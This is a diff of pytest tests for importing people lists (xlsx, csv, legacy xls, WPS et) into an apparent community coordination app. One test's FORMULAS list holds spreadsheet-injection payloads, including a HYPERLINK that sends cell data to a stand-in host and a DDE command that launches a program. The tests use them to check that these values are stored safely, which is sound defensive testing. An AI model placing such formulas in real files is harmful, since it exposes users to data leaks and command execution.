@@ -243,6 +243,10 @@ def test_every_bad_row_is_listed_once_with_all_its_reasons_and_the_good_rows_wai
     assert errors[0].message("zh") == ("第 4 行：缺少姓名；未知层级：外星人；未知分组：巡逻组；手机号格式不对：12345（应为 11 位，以 1 开头）；"
                                        "未知楼栋：99栋；无法从「也许」判断是否党员（请填 是 或 否）。")
     assert errors[1].message("en") == "row 6: the group Checkpoint control is not part of the Volunteers tier."
+    assert errors[0].message("en") == (  # one sentence: each reason after the first starts in lower case, a name as written
+        "row 4: the name is missing; unknown tier: 外星人; unknown group: 巡逻组; malformed mobile number: 12345 (11 digits "
+        "starting with 1); unknown building: 99栋; cannot tell from “也许” whether this is a party member (write yes or no).")
+    assert (errors[0].key, errors[0].params, errors[0].where.row) == ("people.no_name", {}, 4)
     before = dump(fresh_demo)
     with pytest.raises(ImportRefused) as refused:
         people.importer.import_people(fresh_demo, ADMIN, 1, path)
@@ -254,7 +258,9 @@ def test_a_number_taken_while_the_file_was_checked_refuses_the_whole_file(fresh_
     """The plan is read outside the write lock; the transaction checks the numbers again before adding anyone."""
     path = write(tmp_path / "race.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340061,是,3栋",
                                          f"钱二丫,志愿者,应急组,{TAKEN},否,4栋"])
-    monkeypatch.setattr(people.importer, "_phone_owner", lambda db, phone: None)  # as if 吕涛's number were free when planned
+    owners = people.importer._phone_owners
+    monkeypatch.setattr(people.importer, "_phone_owners",  # as if 吕涛's number were free when planned
+                        lambda db, phones: {} if isinstance(db, Database) else owners(db, phones))
     before = dump(fresh_demo)
     with pytest.raises(ImportRefused) as refused:
         people.importer.import_people(fresh_demo, ADMIN, 1, path)
@@ -275,8 +281,10 @@ def xlsx_bytes() -> bytes:
 
 
 @pytest.mark.parametrize(("name", "content", "key", "text"), [
-    ("people.txt", "姓名\n赵一鸣\n".encode(), "import.bad_extension", "只能导入 .xlsx 或 .csv 文件（收到 people.txt）"),
-    ("people.xls", b"\xd0\xcf\x11\xe0" + bytes(200), "import.bad_extension", "只能导入 .xlsx 或 .csv"),
+    ("people.txt", "姓名\n赵一鸣\n".encode(), "import.bad_extension", "只能导入 .xlsx、.xls 或 .csv 文件（收到 people.txt）"),
+    ("people.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "import.unreadable", "无法读取文件 people.xls"),
+    ("people.xls", b"\xd0\xcf\x11\xe0" + bytes(200), "import.unreadable", "无法读取文件 people.xls"),
+    ("people.et", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200), "import.wps_et", "另存为」保存为 Excel 工作簿（.xlsx）"),
     ("people.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(100), "import.unreadable", "无法读取文件 people.xlsx"),
     ("people.xlsx", "姓名,电话\n赵一鸣,13712340071\n".encode(), "import.unreadable", "不是 Excel 文件"),
     ("people.csv", xlsx_bytes(), "import.binary_csv", "不是文本格式的 CSV"),
@@ -391,7 +399,8 @@ def test_cli_refuses_a_bad_file_with_one_line_per_bad_row(db_file, tmp_path):
 
 
 @pytest.mark.parametrize(("name", "content", "text"), [
-    ("people.txt", b"x", "Only .xlsx and .csv files can be imported"),
+    ("people.txt", b"x", "Only .xlsx, .xls and .csv files can be imported"),
+    ("people.et", b"x", "in WPS, use Save As to save it as an Excel workbook (.xlsx)"),
     ("people.xlsx", b"not a zip", "Cannot read people.xlsx"),
     ("people.csv", b"", "The file holds no people."),
     ("people.csv", "门岗,日期\n北门,2020-02-21\n".encode(), "No name column: the file has 门岗, 日期."),
@@ -412,3 +421,217 @@ def test_cli_needs_an_existing_database_and_compound(tmp_path, db_file):
     assert result.returncode == 1 and "init --demo" in result.stderr and not missing.exists()
     result = cli(db_file, "import-people", str(path), "--compound", "7")
     assert result.returncode == 1 and "no compound with ID 7" in result.stderr
+
+
+# --- legacy .xls, WPS .et ------------------------------------------------------------------------------------------
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
+
+
+def test_a_legacy_xls_workbook_is_imported_with_its_merged_cells_numbers_and_sheets(fresh_demo, tmp_path):
+    """tests/fixtures/people.xls is a real Excel 97-2003 file (BIFF8, written by xlwt: tests/fixtures/make_xls.py)."""
+    frame = people.importer.read(FIXTURES / "people.xls")
+    assert people.importer.detect_mapping(people.importer.headers(frame)) == {
+        "name": "姓名", "group": "组别", "phone": "联系电话", "party_member": "政治面貌", "home_building": "楼栋号", "note": "备注"}
+    rows, errors = people.importer.plan(fresh_demo, 1, frame)
+    assert [e.message("en") for e in errors] == []
+    assert [(r.where.sheet, r.where.row, r.person.name, r.person.tier, r.person.group_code, r.person.phone,
+             r.person.party_member, r.person.home_building_id, r.person.note) for r in rows] == [
+        ("志愿者", 3, "周五福", "volunteer", "gate", "13712340011", True, 5, "=1+1"),
+        ("志愿者", 4, "吴六顺", "volunteer", "gate", "13712340012", False, 7, "白班"),
+        ("志愿者", 5, "郑七星", "volunteer", "purchasing", "13712340013", False, 10, None),
+        ("物业", 2, "王八斗", "property", "security", "13712340014", False, None, None)]
+    before = dump(fresh_demo)
+    content = (FIXTURES / "people.xls").read_bytes()
+    for name in ("名单.xls", "名单.xlsx"):  # an .xls saved under an .xlsx name is read by what it holds
+        assert people.importer.plan(fresh_demo, 1, people.importer.read(content, name))[0] == rows
+    result = people.importer.import_people(fresh_demo, ADMIN, 1, content, name="名单.XLS")
+    assert result == 4 and result.unused_columns == ("序号", "紧急联系人")
+    assert dump(fresh_demo)[1] == before[1] + 4
+    assert person(fresh_demo, "周五福")["note"] == "=1+1"
+
+
+def test_cli_imports_a_legacy_xls_and_names_the_columns_it_did_not_import(db_file):
+    result = cli(db_file, "import-people", str(FIXTURES / "people.xls"))
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.startswith(f"Imported 4 people from {FIXTURES / 'people.xls'}.")
+
+
+def test_a_wps_et_file_is_refused_with_how_to_save_it_as_xlsx(fresh_demo, tmp_path):
+    path = tmp_path / "名单.et"
+    path.write_bytes((FIXTURES / "people.xls").read_bytes())
+    with pytest.raises(ImportRefused) as refused:
+        people.importer.import_people(fresh_demo, ADMIN, 1, path)
+    assert refused.value.lines("zh") == ["WPS 表格文件（.et）不能直接导入：请在 WPS 中用「另存为」保存为 Excel 工作簿（.xlsx）后再导入"
+                                         "（收到 名单.et）。"]
+    assert refused.value.lines("en")[0].startswith("A WPS spreadsheet (.et) cannot be imported as it is: in WPS, use Save As")
+
+
+# --- formula-looking text: export → import keeps it -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "=cmd|' /C calc'!A0", "'=1+1"]
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_formula_looking_names_and_notes_survive_an_export_and_an_import(fresh_demo, kind):
+    from coordpanel.core import exports, i18n
+
+    labels = {c: i18n.t(people.sheet.LABELS[c], "zh") for c in ("name", "tier", "phone", "note")}
+    table = pd.DataFrame({labels["name"]: FORMULAS, labels["tier"]: ["志愿者"] * len(FORMULAS),
+                          labels["phone"]: [f"1371234020{i}" for i in range(len(FORMULAS))],
+                          labels["note"]: list(reversed(FORMULAS))})
+    content = exports.to_xlsx({"人员": table}) if kind == "xlsx" else exports.to_csv(table)
+    assert not any(str(v).startswith(("=", "+", "-", "@")) for v in people.importer.read(content, f"p.{kind}").iloc[:, 2:].stack())
+    assert people.importer.import_people(fresh_demo, ADMIN, 1, content, name=f"people.{kind}") == len(FORMULAS)
+    stored = {p["name"]: p["note"] for p in fresh_demo.records("people/list", compound_id=1) if p["phone"] and p["phone"].startswith("137123402")}
+    assert stored == dict(zip(FORMULAS, reversed(FORMULAS), strict=True))
+
+
+# --- headers written another way, and columns that are not imported -------------------------------------------------
+
+
+@pytest.mark.parametrize(("header", "column"), [
+    ("楼栋号", "home_building"), ("所在楼栋", "home_building"), ("所住楼栋号", "home_building"), ("栋号", "home_building"),
+    ("Building No.", "home_building"), ("BLDG", "home_building"), ("家庭住址", "home_building"),
+    ("联系手机", "phone"), ("本人电话", "phone"), ("Mobile Phone", "phone"), ("Tel.", "phone"), ("手机号码（必填）", "phone"),
+    ("电话(手机)", "phone"), ("1、姓名", "name"), ("2. 姓名", "name"), ("姓名*", "name"), ("姓 名：", "name"), ("人员姓名", "name"),
+    ("【必填】姓名", "name"), ("单位名称", "organisation"), ("所属单位", "organisation"), ("派出单位", "organisation"),
+    ("Source Organisation", "organisation"), ("是否中共党员", "party_member"), ("Political Status", "party_member"),
+    ("人员层级", "tier"), ("Category", "tier"), ("小组", "group"), ("Team", "group"), ("岗位", "title"), ("附注", "note"),
+])
+def test_headers_written_in_other_common_ways_are_recognised(header, column):
+    assert people.importer.detect_mapping([header]) == {column: header}
+
+
+@pytest.mark.parametrize("header", ["楼栋长", "紧急联系人", "序号", "编号", "3栋", "13712340011", "赵一鸣", "签名", "联系人",
+                                    "家庭成员", "No.", "名", "号"])
+def test_headers_that_name_no_column_are_not_taken_for_one(header):
+    assert people.importer.detect_mapping([header]) == {}
+
+
+def test_every_column_that_is_not_imported_is_named_and_nothing_is_dropped_silently(fresh_demo, tmp_path):
+    path = write(tmp_path / "cols.csv", ["序号,姓名,层级,楼栋号,紧急联系人,电话,手机,,备注",
+                                         "1,赵一鸣,志愿者,3栋,赵妻 13700000000,13712340211,13712340212,没有表头的一格,夜班"])
+    frame = people.importer.read(path)
+    assert people.importer.headers(frame) == ["序号", "姓名", "层级", "楼栋号", "紧急联系人", "电话", "手机", "(H)", "备注"]
+    assert people.importer.unused_columns(frame) == ["序号", "紧急联系人", "手机", "(H)"]
+    mapping = {**people.importer.detect_mapping(people.importer.headers(frame)), "phone": "手机", "note": None}
+    assert people.importer.unused_columns(frame, mapping) == ["序号", "紧急联系人", "电话", "(H)", "备注"]
+    rows, errors = people.importer.plan(fresh_demo, 1, frame)
+    assert errors == [] and (rows[0].person.home_building_id, rows[0].person.phone) == (3, "13712340211")
+    result = people.importer.import_people(fresh_demo, ADMIN, 1, path)
+    assert (int(result), result.unused_columns) == (1, ("序号", "紧急联系人", "手机", "(H)"))
+    assert f"{result}" == "1" and isinstance(result, people.importer.Imported)
+    everything_used = write(tmp_path / "all.csv", ["姓名,层级", "钱二丫,志愿者"])
+    assert people.importer.import_people(fresh_demo, ADMIN, 1, everything_used).unused_columns == ()
+
+
+# --- building numbers, organisations, repeated names ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("text", "number"), [
+    ("3栋", 3), ("12号楼", 12), ("3幢", 3), ("3座", 3), ("3号", 3), ("3楼", 3), ("3#", 3), ("3-2-502", 3), ("3单元", 3),
+    ("3", 3), ("三栋", 3), ("十栋", 10), ("十四栋", 14), ("二十栋", 20), ("二十三栋", 23), ("九十九号楼", 99),
+    ("十幢", 10), ("一座", 1), ("两栋", None), ("三三栋", None), ("一百栋", None), ("十十栋", None), ("二十三四栋", None),
+    ("三", None), ("栋", None), ("a3栋", None), ("3a", None), ("", None),
+])
+def test_building_numbers_in_figures_and_in_chinese(text, number):
+    assert people.sheet._leading_number(text) == number
+
+
+def test_building_ten_in_chinese_is_found_and_twenty_is_refused_as_unknown(fresh_demo, tmp_path):
+    path = write(tmp_path / "b.csv", [HEAD_ZH, "赵一鸣,志愿者,门岗防控组,13712340221,是,十栋",
+                                      "钱二丫,志愿者,门岗防控组,13712340222,是,二十栋", "孙三强,志愿者,,,否,十四号楼"])
+    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
+    assert [(r.person.name, r.person.home_building_id) for r in rows] == [("赵一鸣", 10), ("孙三强", 14)]
+    assert [(e.where.row, e.keys, e.message("zh")) for e in errors] == [(3, ["people.bad_building"], "第 3 行：未知楼栋：二十栋。")]
+
+
+def test_an_unknown_source_organisation_refuses_its_row_and_names_the_known_ones(fresh_demo, tmp_path):
+    path = write(tmp_path / "org.csv", ["姓名,层级,分组,来源单位,手机号", "赵一鸣,下沉党员,卡口封控组,东管公司,13712340231",
+                                        "钱二丫,下沉党员,卡口封控组,武汉某某公司,13712340232",
+                                        "孙三强,下沉党员,卡口封控组,wuhan hi-tech group,13712340233"])
+    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(path))
+    assert [(r.person.name, r.person.organisation_id) for r in rows] == [("赵一鸣", 2), ("孙三强", 1)]
+    assert [(e.where.row, e.keys) for e in errors] == [(3, ["people_import.unknown_organisation"])]
+    assert errors[0].message("zh") == ("第 3 行：未知单位「武汉某某公司」（可填：武汉高科集团、东管公司、左开投、湖滨公司、万科物业、"
+                                       "长山社区居委会）。")
+    before = dump(fresh_demo)
+    with pytest.raises(ImportRefused):
+        people.importer.import_people(fresh_demo, ADMIN, 1, path)
+    assert dump(fresh_demo) == before
+
+
+@pytest.mark.parametrize(("lines", "expected"), [
+    # the same name with a phone, then without: the second may be the first again
+    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "赵一鸣,志愿者,门岗防控组,,是,3栋"], [(3, ["people_import.same_name"])]),
+    # without, then with
+    (["赵一鸣,志愿者,门岗防控组,,是,3栋", "赵一鸣,志愿者,门岗防控组,13712340241,是,3栋"], [(3, ["people_import.same_name"])]),
+    # neither has a phone and the rows are the same: a repeated row
+    (["赵一鸣,志愿者,门岗防控组,,是,3栋", "赵 一鸣,志愿者,门岗防控组,,是,3栋"], [(3, ["people_import.duplicate"])]),
+    # two phones tell two people of one name apart
+    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "赵一鸣,志愿者,应急组,13712340242,否,4栋"], []),
+    # one phone on two names
+    (["赵一鸣,志愿者,门岗防控组,13712340241,是,3栋", "钱二丫,志愿者,应急组,13712340241,否,4栋"],
+     [(3, ["people_import.phone_twice"])]),
+])
+def test_the_same_name_twice_in_one_file_with_and_without_a_phone(fresh_demo, tmp_path, lines, expected):
+    rows, errors = people.importer.plan(fresh_demo, 1, people.importer.read(write(tmp_path / "n.csv", [HEAD_ZH, *lines])))
+    assert [(e.where.row, e.keys) for e in errors] == expected
+    assert len(rows) == 2 - len(expected)
+
+
+@pytest.mark.parametrize(("line", "expected"), [
+    ("吕涛,志愿者,门岗防控组,,是,3栋", ["people_import.exists"]),  # in the directory, no phone in the file
+    ("吕涛,志愿者,门岗防控组,13712340251,是,3栋", []),  # a phone tells a namesake apart (吕涛 has one too)
+])
+def test_a_name_already_in_the_directory(fresh_demo, tmp_path, line, expected):
+    _, errors = people.importer.plan(fresh_demo, 1, people.importer.read(write(tmp_path / "d.csv", [HEAD_ZH, line])))
+    assert [k for e in errors for k in e.keys] == expected
+
+
+# --- the number of queries does not grow with the file --------------------------------------------------------------
+
+
+def people_lines(n: int, offset: int = 0) -> list[str]:
+    return [HEAD_ZH, *(f"志愿者{offset + i:05d},志愿者,门岗防控组,1371{offset + i:07d},否,{i % 14 + 1}栋" for i in range(n))]
+
+
+def test_planning_and_importing_run_the_same_number_of_queries_for_10_rows_as_for_400(fresh_demo, tmp_path, monkeypatch):
+    from coordpanel.core import db as db_module
+
+    counted: list[str] = []
+    load_query, run_query = db_module.load_query, db_module.run_query
+    monkeypatch.setattr(db_module, "load_query", lambda name: counted.append(name) or load_query(name))
+    monkeypatch.setattr(db_module, "run_query", lambda cur, name, /, **p: counted.append(name) or run_query(cur, name, **p))
+    per_size = {}
+    for n, offset in ((10, 0), (400, 1000)):
+        frame = people.importer.read(write(tmp_path / f"p{n}.csv", people_lines(n, offset)))
+        counted.clear()
+        rows, errors = people.importer.plan(fresh_demo, 1, frame)
+        assert errors == [] and len(rows) == n
+        planned = list(counted)
+        assert people.importer.import_people(fresh_demo, ADMIN, 1, frame) == n
+        per_size[n] = (len(planned), len(counted) - len(planned))
+    assert per_size[10] == per_size[400], per_size
+    assert per_size[10][0] <= 6, planned  # vocabulary (3), the directory, the phone owners
+
+
+@pytest.mark.parametrize(("lang", "expected"), [
+    ("zh", {"工作表": ["志愿者", "志愿者", "志愿者", "物业"], "行号": [3, 4, 5, 2], "姓名": ["周五福", "吴六顺", "郑七星", "王八斗"],
+            "层级": ["志愿者", "志愿者", "志愿者", "物业"], "分组": ["门岗防控组", "门岗防控组", "生活物质采购组", "秩序维护（安保）"],
+            "单位": [None] * 4, "电话": ["13712340011", "13712340012", "13712340013", "13712340014"],
+            "党员": [True, False, False, False], "所住楼栋": ["5栋", "7栋", "10栋", None], "职务": [None] * 4,
+            "备注": ["=1+1", "白班", None, None]}),
+    ("en", {"Sheet": ["志愿者", "志愿者", "志愿者", "物业"], "Row": [3, 4, 5, 2], "Tier": ["Volunteers"] * 3 + ["Property company"],
+            "Group": ["Gate control", "Gate control", "Daily-supplies purchasing", "Security"]}),
+])
+def test_the_preview_shows_the_rows_as_they_will_be_stored(demo_db, lang, expected):
+    rows, _ = people.importer.plan(demo_db, 1, people.importer.read(FIXTURES / "people.xls"))
+    vocabulary = people.directory.Vocabulary.load(demo_db, 1)
+    table = people.importer.preview(rows, vocabulary, lang).astype(object)
+    table = table.where(table.notna(), None)
+    assert {k: v for k, v in table.to_dict("list").items() if k in expected} == expected
+    assert len(table.columns) == 11
+    one_sheet = people.importer.preview(rows[:3], vocabulary, lang)  # the sheet is named only when there are several
+    assert list(one_sheet.columns) == list(table.columns)[1:]
